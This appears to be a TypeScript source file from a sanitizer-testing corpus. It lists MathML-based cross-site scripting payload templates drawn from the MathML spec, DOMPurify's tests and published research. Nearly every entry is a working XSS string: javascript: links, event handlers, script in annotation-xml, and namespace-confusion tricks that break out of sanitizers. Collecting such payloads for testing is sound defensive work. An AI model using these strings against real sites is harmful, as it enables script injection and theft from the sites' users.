import { category } from './payload';
import { BENTKOWSKI, DOMPURIFY_TESTS, MATHML, own, WHATWG } from './sources';

/** MathML: links, actions, annotations, and the ways out of its namespace. */
export const MATH_ML = category('mathml', [
  [
    MATHML,
    {
      'href-on-root': '<math href="javascript:{{CALL}}"><mi>x</mi></math>',
      'href-on-row': '<math><mrow href="javascript:{{CALL}}"><mi>x</mi></mrow></math>',
      'href-on-number': '<math><mn href="javascript:{{CALL}}">1</mn></math>',
      'xlink-on-error': '<math><merror xlink:href="javascript:{{CALL}}"><mtext>x</mtext></merror></math>',
      'maction-statusline':
        '<math><maction actiontype="statusline#http://example.org" xlink:href="javascript:{{CALL}}">x<mtext>y</mtext></maction></math>',
      'maction-toggle':
        '<math><maction actiontype=toggle selection=1 onclick={{CALL}}><mi>x</mi><mi>y</mi></maction></math>',
      'maction-tooltip':
        '<math><maction actiontype=tooltip><mi>x</mi><mtext><img src=x: onerror={{CALL}}></mtext></maction></math>',
      'annotation-html':
        '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x: onerror={{CALL}}></annotation-xml></semantics></math>',
      'annotation-xhtml':
        '<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><script>{{CALL}}</script></annotation-xml></semantics></math>',
      'annotation-svg':
        '<math><annotation-xml encoding="image/svg+xml"><svg onload={{CALL}}></svg></annotation-xml></math>',
      'annotation-no-encoding':
        '<math><annotation-xml><svg onload={{CALL}}></svg><img src=x: onerror={{CALL}}></annotation-xml></math>',
      'annotation-src':
        '<math><semantics><mi>x</mi><annotation src="{{URL}}" encoding="image/png"/></semantics></math>',
      'handlers-on-token':
        '<math><mi onmouseover={{CALL}} onfocus={{CALL}} tabindex=1 autofocus>x</mi></math>',
      'mglyph-src': '<math><mtext><mglyph src="{{URL}}" alt=x></mtext></math>',
      'style-attribute': '<math><mi style="background:url({{URL}})">x</mi></math>',
      mathbackground:
        '<math><mstyle mathbackground="url({{URL}})" background="{{URL}}"><mi>x</mi></mstyle></math>',
      'definition-url': '<math><csymbol definitionURL="javascript:{{CALL}}" cd="{{URL}}">x</csymbol></math>',
      altimg: '<math altimg="{{URL}}" alttext="x"><mi>x</mi></math>',
    },
  ],
  [
    DOMPURIFY_TESTS,
    {
      'style-image': '<math><style><img src=x: onerror={{CALL}}></style></math>',
      'script-inside': '<math><script>{{CALL}}</script></math>',
      'img-breaks-out': '<math><img src=x: onerror={{CALL}}></math>',
      'mi-holds-html': '<math><mi><img src=x: onerror={{CALL}}></mi></math>',
      'mo-table': '<math><mo><table><mglyph><img src=x: onerror={{CALL}}></table></mo></math>',
      'mtext-option':
        '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x: onerror={{CALL}}>"></mtext></svg></mglyph></math>',
      'malignmark-style':
        '<math><mtext><table><malignmark><style><img src=x: onerror={{CALL}}></style></malignmark></table></mtext></math>',
      'anno-mglyph':
        '<math><annotation-xml encoding="text/html"><mglyph><style><img src=x: onerror={{CALL}}></style></mglyph></annotation-xml></math>',
    },
  ],
  [
    own(`${BENTKOWSKI}; ${WHATWG}`),
    {
      'svg-in-math': '<math><svg onload={{CALL}}></svg></math>',
      'math-in-svg-in-math':
        '<math><annotation-xml><svg><foreignObject><math><mi onclick={{CALL}}>x</mi></math></foreignObject></svg></annotation-xml></math>',
      'select-in-mtext': '<math><mtext><select><script>{{CALL}}</script></select></mtext></math>',
      'form-in-mi': '<math><mi><form action="{{URL}}"><input name=q></form></mi></math>',
      'iframe-in-ms': '<math><ms><iframe srcdoc="<script>{{CALL}}</script>"></iframe></ms></math>',
      'object-in-mn': '<math><mn><object data="{{URL}}"></object></mn></math>',
      'base-in-mtext': '<math><mtext><base href="{{URL}}/"></mtext></math>',
    },
  ],
]);
